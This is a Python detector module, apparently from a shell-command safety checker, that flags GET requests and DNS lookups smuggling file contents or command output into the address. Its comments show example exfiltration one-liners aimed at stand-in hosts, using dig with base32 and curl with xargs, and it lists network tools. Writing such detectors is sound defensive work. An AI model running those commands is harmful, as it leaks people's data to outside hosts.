"""Data that leaves by a plain GET: what a file holds, or a command prints, stands in the address."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tools.checks.shell import Command

_CLIENTS = {"curl", "wget", "http", "https", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "aria2c", "lynx",
            "w3m", "axel"}
#: what asks a name server: `dig "$(base32 < f).a.example"`
_RESOLVERS = {"dig", "nslookup", "host", "ping", "drill", "getent"}
#: commands that print nothing of the person's: the day, a number, a folder's name, what came from the network
_INERT = {"date", "echo", "printf", "seq", "uuidgen", "mktemp", "basename", "dirname", "shuf", "uname", "arch", "nproc",
          "dpkg", "lsb_release", "curl", "wget", "true", "expr", "sleep", "cd"}
#: options whose value is no address
_ASIDE = {"-o", "-O", "-P", "-H", "-u", "-A", "-e", "-b", "-c", "--output", "--output-document", "--output-dir",
          "--directory-prefix", "--header", "--user", "--user-agent", "--referer", "--cookie", "--cookie-jar"}
_FILLED = re.compile(r"(?:\S*://\S*|[\w-]+(?:\.[\w-]+)+[/?:]\S*|\$\{?\w+\}?[/?]\S*)(?:\$\(\)|\{\})|"
                     r"\$\(\)\.[\w-]+\.\w", re.S)
_DATA = re.compile(r"-[a-zA-Z]*d|--data(?:-\w+)?")


def carries(command: Command) -> bool:
    """Whether a request that only asks takes data of the person along."""
    if command.program not in _CLIENTS | _RESOLVERS:
        return False
    words = [word for at, word in enumerate(command.argv) if at and command.argv[at - 1] not in _ASIDE]
    filled = [word for word in words if _FILLED.search(word) or (
        command.program in _RESOLVERS and "$()" in word and "." in word)]
    if any("$()" in word for word in filled) and any(map(_reads, command.fed)):
        return True
    if any("{}" in word for word in filled) and command.source is not None and _reads(_first(command.source)):
        return True  # `base64 f | xargs -I{} curl "http://a.example/?d={}"`
    return command.program == "curl" and bool({*command.argv} & {"-G", "--get"}) and any(
        ("$()" in value and any(map(_reads, command.fed))) or "@" in value.partition("=")[0]
        for value in _values(command))


def _values(command: Command) -> Iterator[str]:
    """Data that `curl -G` puts behind the question mark; a name with `@` is a file."""
    for word, after in zip(command.argv, (*command.argv[1:], ""), strict=True):
        name, _, value = word.partition("=")
        if name.startswith("--data") and value:
            yield value
        elif _DATA.fullmatch(word):
            yield after


def _first(command: Command) -> Command:
    while command.source is not None:
        command = command.source
    return command


def _reads(command: Command) -> bool:
    """Whether a command that begins a pipe prints what is the person's."""
    if command.source is not None:
        return bool(command.document) or any(mark == "<" for mark, _ in command.redirects)
    return command.program not in _INERT or any(mark == "<" for mark, _ in command.redirects)
